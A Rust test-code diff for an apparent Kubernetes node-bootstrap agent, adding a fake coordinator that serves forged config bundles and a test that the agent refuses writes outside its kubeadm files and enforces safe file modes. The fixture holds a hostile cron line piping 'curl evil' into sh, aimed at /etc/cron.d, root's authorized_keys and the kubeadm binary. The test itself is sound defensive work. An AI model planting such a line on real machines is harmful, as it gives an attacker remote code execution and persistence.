@@ -44,6 +44,10 @@ struct FakeState {
     /// How many config requests are answered 409 before the bundle.
     not_ready: u32,
     config_requests: u32,
+    /// Files added to every bundle, as a forged bundle would.
+    extra_files: Vec<BundleFile>,
+    /// The mode the kubeadm config is sent with.
+    config_mode: u32,
 }
 
 struct Fake {
@@ -166,7 +170,7 @@ async fn handle(
             }
             let mut files = vec![BundleFile {
                 path: "/etc/drover/kubeadm.yaml".into(),
-                mode: 0o600,
+                mode: s.config_mode,
                 content: format!("kind: for-{}\n", a.role),
             }];
             if a.role.is_control_plane() {
@@ -176,6 +180,7 @@ async fn handle(
                     content: s.ca.cert_pem.clone(),
                 });
             }
+            files.extend(s.extra_files.iter().cloned());
             let b = ConfigBundle {
                 machine_uid: s.machine_uid.clone(),
                 cluster: a.cluster,
@@ -256,6 +261,8 @@ async fn start_fake(ca: CertificateAuthority) -> Fake {
         directives: vec![],
         not_ready: 1,
         config_requests: 0,
+        extra_files: vec![],
+        config_mode: 0o600,
     }));
     let (tx, rx) = mpsc::unbounded_channel();
     let shared = state.clone();
@@ -777,6 +784,91 @@ async fn failed_join_reports_command_and_output_tail() {
     fake.heartbeat_where("another Failed", |h| h.phase == AgentPhase::Failed)
         .await;
     assert_eq!(m.kubeadm_calls().len(), 1);
+    terminate(&agent);
+    assert_eq!(exit_code(&mut agent).await, 0);
+}
+
+#[tokio::test]
+async fn a_forged_bundle_cannot_write_outside_the_kubeadm_files() {
+    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
+    let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
+    let mut fake = start_fake(ca).await;
+    let evil = |path: &str| BundleFile {
+        path: path.into(),
+        mode: 0o777,
+        content: "* * * * * root curl evil | sh\n".into(),
+    };
+    // Signed with the coordinator CA key, as a compromised coordinator would.
+    fake.set(|s| {
+        s.not_ready = 0;
+        s.config_mode = 0o777;
+        s.extra_files = vec![
+            evil("/etc/cron.d/drover"),
+            evil("/root/.ssh/authorized_keys"),
+            evil("/usr/bin/kubeadm"),
+        ];
+        s.assignment = Some(AssignmentNotice {
+            cluster: "demo".into(),
+            role: MachineRole::Worker,
+            generation: 2,
+        });
+    });
+    let m = Machine::new(fake.addr, &pin, TICKET);
+    let mut agent = m.spawn(1, true, &[]);
+    let hb = fake
+        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
+        .await;
+    let report = hb.bootstrap.unwrap();
+    assert_eq!(report.step, "write-files");
+    let failure = report.failure.unwrap();
+    assert!(
+        failure
+            .output_tail
+            .iter()
+            .any(|l| l.contains("/etc/cron.d/drover") && l.contains("refused")),
+        "the report names the refused path: {failure:?}"
+    );
+    // Nothing was written, kubeadm never ran.
+    for p in [
+        "etc/cron.d",
+        "root/.ssh",
+        "usr/bin/kubeadm",
+        "etc/drover/kubeadm.yaml",
+    ] {
+        assert!(!m.root.join(p).exists(), "{p} was written");
+    }
+    assert!(m.kubeadm_calls().is_empty());
+    terminate(&agent);
+    assert_eq!(exit_code(&mut agent).await, 0);
+
+    // The allowed files alone: written with the agent's modes, not the 0777 asked.
+    fake.set(|s| {
+        s.extra_files = vec![
+            BundleFile {
+                path: "/etc/kubernetes/pki/ca.key".into(),
+                mode: 0o777,
+                content: "key\n".into(),
+            },
+            BundleFile {
+                path: "/etc/kubernetes/pki/ca.crt".into(),
+                mode: 0o777,
+                content: "cert\n".into(),
+            },
+        ];
+        s.assignment = Some(AssignmentNotice {
+            cluster: "demo".into(),
+            role: MachineRole::ControlPlane,
+            generation: 3,
+        });
+    });
+    let mut agent = m.spawn(2, false, &[]);
+    fake.heartbeat_where("Running at generation 3", |h| {
+        h.phase == AgentPhase::Running && h.applied_generation == 3
+    })
+    .await;
+    assert_eq!(mode(&m.root.join("etc/drover/kubeadm.yaml")), 0o600);
+    assert_eq!(mode(&m.root.join("etc/kubernetes/pki/ca.key")), 0o600);
+    assert_eq!(mode(&m.root.join("etc/kubernetes/pki/ca.crt")), 0o644);
     terminate(&agent);
     assert_eq!(exit_code(&mut agent).await, 0);
 }
